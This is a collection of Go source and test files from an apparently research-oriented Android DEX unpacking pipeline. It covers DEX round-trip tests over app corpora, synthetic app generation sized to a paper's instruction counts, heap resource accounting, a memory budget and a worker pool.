			t.Fatalf("%s: %v", name, err)
		}
		apps[name] = data
	}

	aosp, err := workload.AOSPApps()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range aosp {
		d, err := a.APK.Dex()
		add("aosp/"+a.Name, d, err)
	}

	fdroid, err := workload.FDroidApps()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range fdroid {
		d, err := a.APK.Dex()
		add("fdroid/"+a.Package, d, err)
	}

	market, err := workload.MarketApps()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range market {
		d, err := a.APK.Dex()
		add("market/"+a.Package, d, err)
		// The packed shell's classes.dex is itself a DEX file (the
		// packer's loader stub) and must round-trip too.
		pd, err := a.Packed.Dex()
		add("packed/"+a.Package, pd, err)
	}

	popular, err := workload.PopularApps()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range popular {
		d, err := a.APK.Dex()
		add("popular/"+a.Name, d, err)
	}
	return apps
}

// TestCorpusDexRoundTrip is the corpus-wide structural property test: for
// every workload application, classes.dex must parse with zero verifier
// defects, re-serialize byte-identically through Read → Write → Read →
// Write, and the reparsed file must again verify clean. This pins the
// reader/writer pair as mutually inverse over the whole experiment corpus,
// not just hand-picked unit-test files.
func TestCorpusDexRoundTrip(t *testing.T) {
	apps := corpusApps(t)
	if len(apps) < 20 {
		t.Fatalf("corpus unexpectedly small: %d apps", len(apps))
	}
	for name, data := range apps {
		name, data := name, data
		t.Run(name, func(t *testing.T) {
			f, err := dex.Read(data)
			if err != nil {
				t.Fatalf("Read: %v", err)
			}
			if defects := dex.Verify(f); len(defects) != 0 {
				t.Fatalf("Verify of original reported %d defects, first: %v",
					len(defects), defects[0])
			}
			out, err := f.Write()
			if err != nil {
				t.Fatalf("Write: %v", err)
			}
			f2, err := dex.Read(out)
			if err != nil {
				t.Fatalf("re-Read of written file: %v", err)
			}
			if defects := dex.Verify(f2); len(defects) != 0 {
				t.Fatalf("Verify of rewritten file reported %d defects, first: %v",
					len(defects), defects[0])
			}
			out2, err := f2.Write()
			if err != nil {
				t.Fatalf("re-Write: %v", err)
			}
			if !bytes.Equal(out, out2) {
				t.Fatalf("Write is not a fixed point: %d vs %d bytes", len(out), len(out2))
			}
		})
	}
}
