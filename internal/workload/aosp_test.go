package workload

import "testing"

func TestAOSPAppSizes(t *testing.T) {
	apps, err := AOSPApps()
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]int{
		"HTMLViewer": 217, "Calculator": 2507,
		"Calendar": 78598, "Contacts": 103602,
	}
	for _, app := range apps {
		if app.Insns != want[app.Name] {
			t.Errorf("%s = %d instructions, want %d", app.Name, app.Insns, want[app.Name])
		}
	}
}
