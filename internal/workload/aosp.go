package workload

import (
	"fmt"

	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
)

// aospSpecs are the Table I applications with the paper's instruction
// counts.
var aospSpecs = []struct {
	name   string
	pkg    string
	target int
}{
	{"HTMLViewer", "com.android.htmlviewer", 217},
	{"Calculator", "com.android.calculator2", 2507},
	{"Calendar", "com.android.calendar", 78598},
	{"Contacts", "com.android.contacts", 103602},
}

// AOSPApps generates the four open-source applications of Table I, each
// sized to exactly the paper's instruction count. Every app logs a
// deterministic checksum on launch, so behavioral equivalence of original
// and revealed APKs is machine-checkable.
func AOSPApps() ([]App, error) {
	var out []App
	for _, spec := range aospSpecs {
		app, err := buildSizedApp(spec.name, spec.pkg, spec.target)
		if err != nil {
			return nil, fmt.Errorf("workload: %s: %w", spec.name, err)
		}
		out = append(out, app)
	}
	return out, nil
}

// buildSizedApp builds an app with exactly target instructions. It builds
// once to measure the fixed overhead, then rebuilds with an exact pad.
func buildSizedApp(name, pkg string, target int) (App, error) {
	const perMethod = 60
	const methodsPerClass = 8
	numClasses := (target - 300) / (perMethod * methodsPerClass)
	if numClasses < 0 {
		numClasses = 0
	}
	build := func(pad int) (*dex.File, string, error) {
		p := dexgen.New()
		desc := "L" + "aosp/" + name + ";"
		classes := numClasses
		for c := 0; c < classes; c++ {
			fillerClass(p, fmt.Sprintf("Laosp/%s/Mod%d;", name, c),
				methodsPerClass, perMethod, uint32(c)*31+7)
		}
		cls := p.Class(desc, "Landroid/app/Activity;")
		cls.Source(name + ".java")
		cls.Ctor("Landroid/app/Activity;", nil)
		// The checksum chain executes the first modules so packers'
		// method-extraction paths are genuinely exercised.
		chain := classes
		if chain > 3 {
			chain = 3
		}
		cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
			a.Const(0, 0)
			for c := 0; c < chain; c++ {
				a.InvokeStatic(fmt.Sprintf("Laosp/%s/Mod%d;", name, c), "calc0", "()I")
				a.MoveResult(1)
				a.Binop(0x97 /* xor-int */, 0, 0, 1)
			}
			a.InvokeStatic("Ljava/lang/String;", "valueOf", "(I)Ljava/lang/String;", 0)
			a.MoveResultObject(2)
			a.ConstString(3, "checksum")
			a.InvokeStatic("Landroid/util/Log;", "i",
				"(Ljava/lang/String;Ljava/lang/String;)I", 3, 2)
			a.ReturnVoid()
		})
		if pad > 0 {
			padClass(p, pad)
		}
		f, err := p.Finish()
		if err != nil {
			return nil, "", err
		}
		return f, desc, nil
	}

	probe, _, err := build(16)
	if err != nil {
		return App{}, err
	}
	delta := target - probe.InstructionCount() + 16
	if delta < 4 {
		return App{}, fmt.Errorf("workload: target %d too small for scaffold (needs +%d)", target, 4-delta)
	}
	f, desc, err := build(delta)
	if err != nil {
		return App{}, err
	}
	if got := f.InstructionCount(); got != target {
		return App{}, fmt.Errorf("workload: %s sized to %d, want %d", name, got, target)
	}
	data, err := f.Write()
	if err != nil {
		return App{}, err
	}
	a := newAPK(pkg, "1.0", desc)
	a.SetDex(data)
	return App{Name: name, Package: pkg, Version: "1.0", APK: a, Insns: target}, nil
}
