package pipeline

import (
	"fmt"
	runtimemetrics "runtime/metrics"
	"sync"
	"sync/atomic"
	"time"
)

// The two runtime/metrics series resource accounting is built on: a
// monotonic total of heap bytes ever allocated, and the live-heap
// occupancy. Both are process-wide — deltas across a window are exact when
// one reveal runs at a time and an upper bound when reveals share the
// process, which is the honest direction for capacity planning.
const (
	allocsMetric = "/gc/heap/allocs:bytes"
	heapMetric   = "/memory/classes/heap/objects:bytes"
)

// MemSample is one point-in-time reading of the Go heap.
type MemSample struct {
	// AllocBytes is the monotonic total of heap bytes allocated by the
	// process; the difference of two samples is the allocation volume of
	// the window between them.
	AllocBytes int64
	// HeapBytes is the live heap occupancy at the sample.
	HeapBytes int64
}

// ReadMemSample reads the current heap counters. It is cheap (two
// runtime/metrics reads, no stop-the-world) and safe to call at stage
// boundaries on every job.
func ReadMemSample() MemSample {
	s := [2]runtimemetrics.Sample{{Name: allocsMetric}, {Name: heapMetric}}
	runtimemetrics.Read(s[:])
	var m MemSample
	if s[0].Value.Kind() == runtimemetrics.KindUint64 {
		m.AllocBytes = int64(s[0].Value.Uint64())
	}
	if s[1].Value.Kind() == runtimemetrics.KindUint64 {
		m.HeapBytes = int64(s[1].Value.Uint64())
	}
	return m
}

// ResourceUsage is the per-job resource bill: CPU consumed, heap churn and
// peak occupancy delta, and where the job's latency went. It rides on
// AppMetrics (and through it on store artifacts and batch reports) and on
// the server's job status.
type ResourceUsage struct {
	// CPUNS is the aggregate worker CPU time attributed to the job's
	// stages (the sum of StageTiming.CPUNS).
	CPUNS int64 `json:"cpuNS,omitempty"`
	// AllocBytes is the heap allocation volume of the run window.
	AllocBytes int64 `json:"allocBytes,omitempty"`
	// HeapPeakBytes is the largest live-heap growth observed at any stage
	// boundary relative to the run's starting occupancy (never negative; a
	// run that only shrank the heap records 0).
	HeapPeakBytes int64 `json:"heapPeakBytes,omitempty"`
	// QueueNS, RunNS and TotalNS split a served job's latency: time waiting
	// for a worker, time inside Reveal, and admission-to-completion.
	// Stand-alone runs record RunNS only.
	QueueNS int64 `json:"queueNS,omitempty"`
	RunNS   int64 `json:"runNS,omitempty"`
	TotalNS int64 `json:"totalNS,omitempty"`
}

// Validate checks the resource invariants: nothing is negative, and the
// total latency (when recorded) covers both the queue wait and the run.
func (r *ResourceUsage) Validate() error {
	if r == nil {
		return nil
	}
	if r.CPUNS < 0 || r.AllocBytes < 0 || r.HeapPeakBytes < 0 ||
		r.QueueNS < 0 || r.RunNS < 0 || r.TotalNS < 0 {
		return fmt.Errorf("pipeline: negative resource usage: %+v", *r)
	}
	if r.TotalNS > 0 && (r.TotalNS < r.RunNS || r.TotalNS < r.QueueNS) {
		return fmt.Errorf("pipeline: total latency %d below its queue %d / run %d components",
			r.TotalNS, r.QueueNS, r.RunNS)
	}
	return nil
}

// ResourceAccountant samples the heap at stage boundaries and folds the
// readings into a ResourceUsage. One accountant covers one Reveal; stage
// methods (StageDone, Finish) are not safe for concurrent use — stages run
// serially within a job — but the peak is an atomic maximum, so a sampling
// ticker started with StartSampling may fold in-stage readings into it
// concurrently. Boundary-only sampling systematically under-reports: a
// stage that balloons the heap and frees before returning (reassembly's
// tree flattening is exactly that shape) leaves no trace at its boundary.
type ResourceAccountant struct {
	start MemSample
	last  MemSample
	peak  atomic.Int64
}

// NewResourceAccountant starts accounting at the current heap state.
func NewResourceAccountant() *ResourceAccountant {
	base := ReadMemSample()
	return &ResourceAccountant{start: base, last: base}
}

// StageDone samples the heap at a stage boundary. It returns the bytes
// allocated since the previous boundary (the stage's allocation bill,
// clamped at 0) and the live-heap delta versus the run start, and tracks
// the peak of that delta.
func (a *ResourceAccountant) StageDone() (allocBytes, heapDelta int64) {
	now := ReadMemSample()
	allocBytes = now.AllocBytes - a.last.AllocBytes
	if allocBytes < 0 {
		allocBytes = 0
	}
	heapDelta = now.HeapBytes - a.start.HeapBytes
	a.maxPeak(heapDelta)
	a.last = now
	return allocBytes, heapDelta
}

// maxPeak raises the peak to delta if larger (atomic, so the sampling
// ticker and the stage boundary path never lose an update to each other).
func (a *ResourceAccountant) maxPeak(delta int64) {
	for {
		cur := a.peak.Load()
		if delta <= cur || a.peak.CompareAndSwap(cur, delta) {
			return
		}
	}
}

// SampleNow folds an immediate heap reading into the peak without closing a
// stage window, and returns the live-heap delta versus the run start.
func (a *ResourceAccountant) SampleNow() int64 {
	delta := ReadMemSample().HeapBytes - a.start.HeapBytes
	a.maxPeak(delta)
	return delta
}

// StartSampling launches a background ticker folding in-stage heap readings
// into the peak every interval (<= 0 selects 10ms), so HeapPeakBytes covers
// transient in-stage growth that stage boundaries never see. The returned
// stop function takes one final sample, ends the goroutine, and is safe to
// call more than once.
func (a *ResourceAccountant) StartSampling(interval time.Duration) (stop func()) {
	if interval <= 0 {
		interval = 10 * time.Millisecond
	}
	done := make(chan struct{})
	go func() {
		t := time.NewTicker(interval)
		defer t.Stop()
		for {
			select {
			case <-done:
				return
			case <-t.C:
				a.SampleNow()
			}
		}
	}()
	var once sync.Once
	return func() {
		once.Do(func() {
			close(done)
			a.SampleNow()
		})
	}
}

// Finish closes the accounting window and returns the job's resource bill.
// cpu is the aggregate stage CPU time and run the job's wall time, both in
// nanoseconds; queue/total latency are the server's to fill in.
func (a *ResourceAccountant) Finish(cpu, run int64) *ResourceUsage {
	end := ReadMemSample()
	alloc := end.AllocBytes - a.start.AllocBytes
	if alloc < 0 {
		alloc = 0
	}
	peak := a.peak.Load()
	if d := end.HeapBytes - a.start.HeapBytes; d > peak {
		peak = d
	}
	if peak < 0 {
		peak = 0
	}
	return &ResourceUsage{
		CPUNS:         cpu,
		AllocBytes:    alloc,
		HeapPeakBytes: peak,
		RunNS:         run,
	}
}
