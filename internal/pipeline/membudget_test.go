package pipeline

import (
	"sync"
	"testing"
	"time"
)

func TestMemoryBudgetNilIsUnlimited(t *testing.T) {
	b := NewMemoryBudget(0)
	if b != nil {
		t.Fatalf("NewMemoryBudget(0) = %v, want nil", b)
	}
	resv, wait := b.Acquire(1 << 30)
	if resv != nil || wait != 0 {
		t.Fatalf("nil budget Acquire = (%v, %v), want (nil, 0)", resv, wait)
	}
	resv.Release() // must not panic
	if b.Limit() != 0 || b.InUse() != 0 || b.Waits() != 0 || b.WaitNS() != 0 {
		t.Fatalf("nil budget accessors not all zero")
	}
}

func TestMemoryBudgetAdmitsWithinLimit(t *testing.T) {
	b := NewMemoryBudget(100)
	r1, w1 := b.Acquire(40)
	r2, w2 := b.Acquire(60)
	if w1 != 0 || w2 != 0 {
		t.Fatalf("admissions within limit waited: %v, %v", w1, w2)
	}
	if got := b.InUse(); got != 100 {
		t.Fatalf("InUse = %d, want 100", got)
	}
	r1.Release()
	r2.Release()
	if got := b.InUse(); got != 0 {
		t.Fatalf("InUse after release = %d, want 0", got)
	}
	if b.Waits() != 0 {
		t.Fatalf("Waits = %d, want 0", b.Waits())
	}
}

func TestMemoryBudgetBlocksUntilRelease(t *testing.T) {
	b := NewMemoryBudget(100)
	r1, _ := b.Acquire(80)

	admitted := make(chan time.Duration, 1)
	go func() {
		r2, wait := b.Acquire(50)
		admitted <- wait
		r2.Release()
	}()

	select {
	case <-admitted:
		t.Fatalf("second acquire admitted while budget was full")
	case <-time.After(50 * time.Millisecond):
	}
	r1.Release()
	select {
	case wait := <-admitted:
		if wait <= 0 {
			t.Fatalf("blocked acquire reported zero wait")
		}
	case <-time.After(2 * time.Second):
		t.Fatalf("second acquire never admitted after release")
	}
	if b.Waits() != 1 {
		t.Fatalf("Waits = %d, want 1", b.Waits())
	}
	if b.WaitNS() <= 0 {
		t.Fatalf("WaitNS = %d, want > 0", b.WaitNS())
	}
}

func TestMemoryBudgetOversizedRunsAlone(t *testing.T) {
	b := NewMemoryBudget(100)
	// An estimate above the whole limit is admitted when the budget is
	// empty: the gate throttles, it does not validate.
	r, wait := b.Acquire(1000)
	if wait != 0 {
		t.Fatalf("oversized acquire on empty budget waited %v", wait)
	}
	if got := b.InUse(); got != 1000 {
		t.Fatalf("InUse = %d, want 1000", got)
	}
	// But while the whale holds the budget, everything else waits.
	admitted := make(chan struct{})
	go func() {
		r2, _ := b.Acquire(1)
		close(admitted)
		r2.Release()
	}()
	select {
	case <-admitted:
		t.Fatalf("acquire admitted alongside an oversized reservation")
	case <-time.After(50 * time.Millisecond):
	}
	r.Release()
	select {
	case <-admitted:
	case <-time.After(2 * time.Second):
		t.Fatalf("waiter never admitted after oversized release")
	}
}

func TestMemoryBudgetReleaseIdempotent(t *testing.T) {
	b := NewMemoryBudget(100)
	r, _ := b.Acquire(60)
	r.Release()
	r.Release()
	if got := b.InUse(); got != 0 {
		t.Fatalf("InUse after double release = %d, want 0", got)
	}
}

func TestMemoryBudgetConcurrentChurn(t *testing.T) {
	// Many goroutines churning acquire/release must never drive inUse
	// negative or lose a waiter. Run with -race for the full value.
	b := NewMemoryBudget(64)
	var wg sync.WaitGroup
	for i := 0; i < 16; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 50; j++ {
				r, _ := b.Acquire(16)
				r.Release()
			}
		}()
	}
	wg.Wait()
	if got := b.InUse(); got != 0 {
		t.Fatalf("InUse after churn = %d, want 0", got)
	}
}
