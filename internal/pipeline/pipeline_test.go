package pipeline

import (
	"encoding/json"
	"errors"
	"fmt"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

func TestRunVisitsEveryIndexOnce(t *testing.T) {
	const n = 100
	var counts [n]atomic.Int32
	errs := New(7).Run(n, func(i int) error {
		counts[i].Add(1)
		return nil
	})
	if len(errs) != n {
		t.Fatalf("len(errs) = %d, want %d", len(errs), n)
	}
	for i := range counts {
		if got := counts[i].Load(); got != 1 {
			t.Errorf("index %d ran %d times, want 1", i, got)
		}
		if errs[i] != nil {
			t.Errorf("errs[%d] = %v, want nil", i, errs[i])
		}
	}
}

func TestRunBoundedParallelism(t *testing.T) {
	const n, workers = 64, 3
	var inFlight, peak atomic.Int32
	New(workers).Run(n, func(i int) error {
		cur := inFlight.Add(1)
		for {
			p := peak.Load()
			if cur <= p || peak.CompareAndSwap(p, cur) {
				break
			}
		}
		time.Sleep(100 * time.Microsecond)
		inFlight.Add(-1)
		return nil
	})
	if got := peak.Load(); got > workers {
		t.Errorf("peak parallelism %d exceeds worker cap %d", got, workers)
	}
}

func TestRunErrorsStayInJobOrder(t *testing.T) {
	errs := New(4).Run(10, func(i int) error {
		if i%3 == 0 {
			return fmt.Errorf("job %d failed", i)
		}
		return nil
	})
	for i, err := range errs {
		if i%3 == 0 {
			if err == nil || err.Error() != fmt.Sprintf("job %d failed", i) {
				t.Errorf("errs[%d] = %v, want job-%d failure", i, err, i)
			}
		} else if err != nil {
			t.Errorf("errs[%d] = %v, want nil", i, err)
		}
	}
}

func TestRunPanicIsolation(t *testing.T) {
	errs := New(2).Run(8, func(i int) error {
		if i == 3 {
			panic("bad apk")
		}
		return nil
	})
	for i, err := range errs {
		if i == 3 {
			var pe *PanicError
			if !errors.As(err, &pe) {
				t.Fatalf("errs[3] = %v, want *PanicError", err)
			}
			if pe.Value != "bad apk" {
				t.Errorf("panic value = %v, want %q", pe.Value, "bad apk")
			}
			if len(pe.Stack) == 0 {
				t.Error("panic stack not captured")
			}
		} else if err != nil {
			t.Errorf("healthy job %d got error %v", i, err)
		}
	}
}

func TestMapOrdersResultsBySubmission(t *testing.T) {
	// Completion order is scrambled on purpose: later jobs finish first.
	out, errs := Map(New(8), 16, func(i int) (int, error) {
		time.Sleep(time.Duration(16-i) * 100 * time.Microsecond)
		return i * i, nil
	})
	if err := FirstError(errs); err != nil {
		t.Fatal(err)
	}
	for i, v := range out {
		if v != i*i {
			t.Errorf("out[%d] = %d, want %d", i, v, i*i)
		}
	}
}

func TestMapFailedJobKeepsZeroValue(t *testing.T) {
	out, errs := Map(New(2), 4, func(i int) (string, error) {
		if i == 1 {
			return "poison", errors.New("boom")
		}
		return fmt.Sprint(i), nil
	})
	if out[1] != "" {
		t.Errorf("failed job result = %q, want zero value", out[1])
	}
	if errs[1] == nil {
		t.Error("failed job error missing")
	}
	if err := FirstError(errs); err == nil || err.Error() != "boom" {
		t.Errorf("FirstError = %v, want boom", err)
	}
}

func TestWorkerCountResolution(t *testing.T) {
	cases := []struct{ workers, n, max int }{
		{0, 100, 1 << 30}, // GOMAXPROCS default, just must be >= 1
		{4, 2, 2},         // clamped to batch size
		{-3, 1, 1},
		{8, 0, 1}, // degenerate batch still resolves to 1
	}
	for _, c := range cases {
		got := New(c.workers).WorkerCount(c.n)
		if got < 1 || got > c.max {
			t.Errorf("WorkerCount(workers=%d, n=%d) = %d, want in [1,%d]",
				c.workers, c.n, got, c.max)
		}
	}
}

func TestRunZeroJobs(t *testing.T) {
	if errs := New(4).Run(0, func(int) error { panic("must not run") }); len(errs) != 0 {
		t.Fatalf("len(errs) = %d, want 0", len(errs))
	}
}

func TestRunConcurrentBatches(t *testing.T) {
	// Distinct Pipeline values must not share state: run several batches
	// concurrently (exercised under -race in CI).
	var wg sync.WaitGroup
	for b := 0; b < 4; b++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			var sum atomic.Int64
			New(2).Run(32, func(i int) error {
				sum.Add(int64(i))
				return nil
			})
			if got := sum.Load(); got != 31*32/2 {
				t.Errorf("batch sum = %d, want %d", got, 31*32/2)
			}
		}()
	}
	wg.Wait()
}

func TestBuildReportAggregation(t *testing.T) {
	apps := []AppMetrics{
		{Name: "a", WallNS: 100, ExecutedInsns: 10, Methods: 3, ExecutedMethods: 2,
			Stubs: 1, Variants: 1, Divergences: 2,
			Stages: []StageTiming{{Stage: StageCollection, WallNS: 60}, {Stage: StageReassembly, WallNS: 30}, {Stage: StageVerify, WallNS: 10}}},
		{Name: "b", WallNS: 200, ExecutedInsns: 20, Methods: 5, ExecutedMethods: 4,
			Stubs: 1, Variants: 0, Divergences: 0,
			Stages: []StageTiming{{Stage: StageCollection, WallNS: 150}, {Stage: StageReassembly, WallNS: 40}, {Stage: StageVerify, WallNS: 10}}},
		{Name: "c", Err: "reveal: bad dex"},
	}
	r := BuildReport(2, 200, apps)
	if r.Jobs != 3 || r.Failed != 1 {
		t.Fatalf("jobs/failed = %d/%d, want 3/1", r.Jobs, r.Failed)
	}
	if r.SerialNS != 300 {
		t.Errorf("SerialNS = %d, want 300", r.SerialNS)
	}
	if got := r.Speedup(); got != 1.5 {
		t.Errorf("Speedup = %v, want 1.5", got)
	}
	if r.TotalExecutedInsns != 30 || r.TotalMethods != 8 || r.TotalStubs != 2 {
		t.Errorf("totals wrong: %+v", r)
	}
	want := []StageTiming{{Stage: StageCollection, WallNS: 210}, {Stage: StageReassembly, WallNS: 70}, {Stage: StageVerify, WallNS: 20}}
	if len(r.StageTotals) != len(want) {
		t.Fatalf("stage totals = %v, want %v", r.StageTotals, want)
	}
	for i, st := range r.StageTotals {
		if st != want[i] {
			t.Errorf("stage total[%d] = %v, want %v", i, st, want[i])
		}
	}
}

func TestReportJSONRoundTrip(t *testing.T) {
	apps := []AppMetrics{
		{Name: "app1", WallNS: 1000, ExecutedInsns: 42,
			Stages: []StageTiming{{Stage: StageCollection, WallNS: 800}}},
		{Name: "app2", Err: "panic: bad"},
	}
	r := BuildReport(4, 1500, apps)
	data, err := r.JSON()
	if err != nil {
		t.Fatal(err)
	}
	var back Report
	if err := json.Unmarshal(data, &back); err != nil {
		t.Fatal(err)
	}
	if back.Workers != 4 || back.Jobs != 2 || back.Failed != 1 {
		t.Errorf("decoded header = %+v", back)
	}
	if len(back.Apps) != 2 || back.Apps[0].Name != "app1" || back.Apps[1].Err != "panic: bad" {
		t.Errorf("decoded apps = %+v", back.Apps)
	}
	if back.Apps[0].StageWall(StageCollection) != 800 {
		t.Errorf("stage wall = %v, want 800ns", back.Apps[0].StageWall(StageCollection))
	}
	if back.Apps[0].StageWall(StageFuzz) != 0 {
		t.Error("absent stage must report 0")
	}
}

func TestAppMetricsStageHelpers(t *testing.T) {
	var m AppMetrics
	m.AddStage(StageCollection, 5*time.Millisecond)
	m.AddStage(StageVerify, time.Millisecond)
	if got := m.StageWall(StageCollection); got != 5*time.Millisecond {
		t.Errorf("StageWall = %v", got)
	}
	if len(Stages()) != 5 {
		t.Errorf("Stages() = %v, want 5 stages", Stages())
	}
}
