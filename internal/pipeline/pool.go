package pipeline

import (
	"runtime"
	"sync"
)

// Pool is the long-lived counterpart of Pipeline.Run: a fixed set of
// workers fed by a bounded queue, built for the reveal service where jobs
// arrive continuously instead of as one batch. Admission is non-blocking —
// TrySubmit refuses when the queue is full, which is what lets the HTTP
// layer answer 429 instead of growing memory without bound — and every
// job runs under the same panic isolation as batch jobs.
type Pool struct {
	mu     sync.Mutex
	jobs   chan func()
	closed bool
	wg     sync.WaitGroup
}

// NewPool starts workers (<= 0 selects runtime.GOMAXPROCS(0)) draining a
// queue of the given depth (< 1 selects 1). The pool runs until Close.
func NewPool(workers, depth int) *Pool {
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if depth < 1 {
		depth = 1
	}
	p := &Pool{jobs: make(chan func(), depth)}
	p.wg.Add(workers)
	for w := 0; w < workers; w++ {
		go func() {
			defer p.wg.Done()
			for fn := range p.jobs {
				// A panic escaping fn must not kill the worker; jobs that
				// want the PanicError wrap their own work in Isolate.
				_ = runJob(func(int) error { fn(); return nil }, 0)
			}
		}()
	}
	return p
}

// TrySubmit enqueues fn if the queue has room; it reports false — without
// blocking — when the queue is full or the pool is closed.
func (p *Pool) TrySubmit(fn func()) bool {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.closed {
		return false
	}
	select {
	case p.jobs <- fn:
		return true
	default:
		return false
	}
}

// QueueDepth returns the queue capacity; QueueLen the jobs waiting in it.
func (p *Pool) QueueDepth() int { return cap(p.jobs) }
func (p *Pool) QueueLen() int   { return len(p.jobs) }

// Close stops admission, drains every queued job, and waits for the
// workers to exit. Close is idempotent and safe to race with TrySubmit.
func (p *Pool) Close() {
	p.mu.Lock()
	if !p.closed {
		p.closed = true
		close(p.jobs)
	}
	p.mu.Unlock()
	p.wg.Wait()
}
