package pipeline

import (
	"errors"
	"sync"
	"sync/atomic"
	"testing"
)

func TestPoolRunsEveryAcceptedJob(t *testing.T) {
	p := NewPool(4, 16)
	var ran atomic.Int64
	accepted := 0
	for i := 0; i < 100; i++ {
		if p.TrySubmit(func() { ran.Add(1) }) {
			accepted++
		}
	}
	p.Close()
	if int(ran.Load()) != accepted {
		t.Errorf("ran %d of %d accepted jobs", ran.Load(), accepted)
	}
	if accepted == 0 {
		t.Error("no job was accepted")
	}
}

func TestPoolAdmissionControl(t *testing.T) {
	// One worker blocked on a gate, depth 2: the third un-gated submit
	// must be refused without blocking.
	gate := make(chan struct{})
	p := NewPool(1, 2)
	var order []int
	var mu sync.Mutex
	record := func(i int) func() {
		return func() {
			<-gate
			mu.Lock()
			order = append(order, i)
			mu.Unlock()
		}
	}
	if !p.TrySubmit(record(0)) { // dequeued by the worker, blocks on gate
		t.Fatal("first submit refused")
	}
	// Fill the queue. The worker may or may not have dequeued job 0 yet,
	// so accept between depth and depth+1 jobs, then require a refusal.
	accepted := 1
	for i := 1; i < 8; i++ {
		if !p.TrySubmit(record(i)) {
			break
		}
		accepted++
	}
	if accepted >= 8 {
		t.Fatal("queue never filled")
	}
	if p.TrySubmit(record(99)) {
		t.Error("full queue accepted a job")
	}
	close(gate)
	p.Close()
	mu.Lock()
	defer mu.Unlock()
	if len(order) != accepted {
		t.Errorf("drained %d jobs, accepted %d", len(order), accepted)
	}
	// Close drains in FIFO order on a single worker.
	for i := 1; i < len(order); i++ {
		if order[i-1] > order[i] {
			t.Errorf("jobs ran out of order: %v", order)
		}
	}
}

func TestPoolSurvivesPanickingJob(t *testing.T) {
	p := NewPool(1, 4)
	var ok atomic.Bool
	if !p.TrySubmit(func() { panic("job exploded") }) {
		t.Fatal("submit refused")
	}
	if !p.TrySubmit(func() { ok.Store(true) }) {
		t.Fatal("submit after panic refused")
	}
	p.Close()
	if !ok.Load() {
		t.Error("worker died with the panicking job")
	}
}

func TestPoolCloseIdempotentAndRefusesAfter(t *testing.T) {
	p := NewPool(2, 2)
	p.Close()
	p.Close()
	if p.TrySubmit(func() {}) {
		t.Error("closed pool accepted a job")
	}
}

func TestIsolateConvertsPanic(t *testing.T) {
	err := Isolate(func() error { panic("boom") })
	var pe *PanicError
	if !errors.As(err, &pe) || pe.Value != "boom" {
		t.Fatalf("Isolate = %v, want PanicError(boom)", err)
	}
	if len(pe.Stack) == 0 {
		t.Error("PanicError lost the stack")
	}
	want := errors.New("plain")
	if got := Isolate(func() error { return want }); got != want {
		t.Errorf("Isolate = %v, want pass-through error", got)
	}
	if got := Isolate(func() error { return nil }); got != nil {
		t.Errorf("Isolate = %v, want nil", got)
	}
}
