package pipeline

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"dexlego/internal/obs"
)

func TestStageJSONRoundTrip(t *testing.T) {
	for _, s := range Stages() {
		data, err := json.Marshal(s)
		if err != nil {
			t.Fatalf("%s: %v", s, err)
		}
		var back Stage
		if err := json.Unmarshal(data, &back); err != nil {
			t.Fatalf("%s: %v", s, err)
		}
		if back != s || back.String() != string(s) || !back.Valid() {
			t.Errorf("round trip %s -> %s -> %s", s, data, back)
		}
	}
	if _, err := json.Marshal(Stage("linking")); err == nil {
		t.Error("unknown stage must not marshal")
	}
	var bad Stage
	if err := json.Unmarshal([]byte(`"linking"`), &bad); err == nil {
		t.Error("unknown stage must not unmarshal")
	}
	if Stage("linking").Valid() {
		t.Error("Valid must reject unknown stages")
	}
}

func TestAddStageMergesDuplicates(t *testing.T) {
	var m AppMetrics
	m.AddStage(StageCollection, 3*time.Millisecond)
	m.AddStage(StageReassembly, time.Millisecond)
	m.AddStage(StageCollection, 2*time.Millisecond)
	if len(m.Stages) != 2 {
		t.Fatalf("re-entered stage appended a duplicate: %+v", m.Stages)
	}
	if got := m.StageWall(StageCollection); got != 5*time.Millisecond {
		t.Errorf("merged collection wall = %v, want 5ms", got)
	}
	if got := m.StageSum(); got != 6*time.Millisecond {
		t.Errorf("stage sum = %v, want 6ms", got)
	}
}

func TestAppMetricsValidate(t *testing.T) {
	ok := AppMetrics{Name: "a", WallNS: 100, Stages: []StageTiming{
		{Stage: StageCollection, WallNS: 60}, {Stage: StageReassembly, WallNS: 30}, {Stage: StageVerify, WallNS: 10}}}
	if err := ok.Validate(); err != nil {
		t.Errorf("valid metrics rejected: %v", err)
	}
	cases := []struct {
		name string
		m    AppMetrics
		want string
	}{
		{"unknown stage",
			AppMetrics{WallNS: 10, Stages: []StageTiming{{Stage: Stage("linking"), WallNS: 1}}},
			"unknown stage"},
		{"duplicate stage",
			AppMetrics{WallNS: 10, Stages: []StageTiming{{Stage: StageCollection, WallNS: 1}, {Stage: StageCollection, WallNS: 1}}},
			"duplicate stage"},
		{"out of order",
			AppMetrics{WallNS: 10, Stages: []StageTiming{{Stage: StageVerify, WallNS: 1}, {Stage: StageCollection, WallNS: 1}}},
			"out of execution order"},
		{"negative wall",
			AppMetrics{WallNS: 10, Stages: []StageTiming{{Stage: StageCollection, WallNS: -1}}},
			"negative wall"},
		{"double-counted",
			AppMetrics{WallNS: 50, Stages: []StageTiming{{Stage: StageCollection, WallNS: 40}, {Stage: StageVerify, WallNS: 20}}},
			"double-counted"},
	}
	for _, c := range cases {
		err := c.m.Validate()
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: Validate() = %v, want error containing %q", c.name, err, c.want)
		}
	}
}

func TestDecodeReportValidates(t *testing.T) {
	apps := []AppMetrics{
		{Name: "a", WallNS: 100,
			Stages: []StageTiming{{Stage: StageCollection, WallNS: 60}, {Stage: StageVerify, WallNS: 10}},
			Obs:    &obs.Snapshot{Events: map[string]int64{"tree_fork": 2}}},
		{Name: "b", Err: "panic: bad"},
	}
	data, err := BuildReport(2, 150, apps).JSON()
	if err != nil {
		t.Fatal(err)
	}
